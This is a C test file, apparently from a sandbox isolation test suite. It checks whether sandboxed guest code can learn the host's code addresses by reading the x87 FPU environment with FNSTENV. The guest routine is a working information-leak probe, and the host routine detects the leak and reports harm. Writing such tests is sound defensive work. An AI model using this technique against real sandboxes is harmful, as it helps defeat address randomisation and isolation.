/* Tries: to learn where the host's code is, of what the x87 unit notes of its last instruction
 * From: CWE-200; CWE-226; what FNSTENV and FXSAVE show (Intel SDM volume 1, 8.1.8)
 * Observed: The address of an instruction of the host's in what the call gave back.
 * Needs: machine-code
 * Not for: process: the host's registers are not the worker's */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    uint32_t environment[7];
    __asm__ volatile("fnstenv %0\n\tfldenv %0" : "+m"(environment));
    memcpy(at->loot, environment, sizeof(environment));
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* Returns where its last instruction for the x87 unit is. */
static __attribute__((noinline)) uint32_t LOCAL(compute)(void)
{
    uintptr_t last;
    __asm__ volatile("fld1\n1:\tfstp %%st(0)\n\tlea 1b(%%rip), %0" : "=r"(last));
    return (uint32_t)last;
}

/* What the foreign code was told. */
static uint32_t LOCAL(told)(const struct host *host)
{
    enum { INSTRUCTION = 3 };
    uint32_t told = 0;
    memcpy(&told,
           host->evidence->loot + host->evidence->loot_size - LOOT_SIZE +
               INSTRUCTION * sizeof(told),
           sizeof(told));
    return told;
}

/* More than once: where another thread has the processor between the two, some kernels leave an
 * address of their own there (X86_BUG_FXSAVE_LEAK). */
HOST(run)
{
    bool knows = false;
    enum og_error error = host_prepare(host);
    for (int i = 0; i < 50 && !error && !knows; i++) {
        uint32_t last = LOCAL(compute)();
        error = host_call(host, 0);
        knows = LOCAL(told)(host) == last;
    }
    if (knows)
        host_harmed(host, "the foreign code knows where the host's is");
    return error;
}
#endif
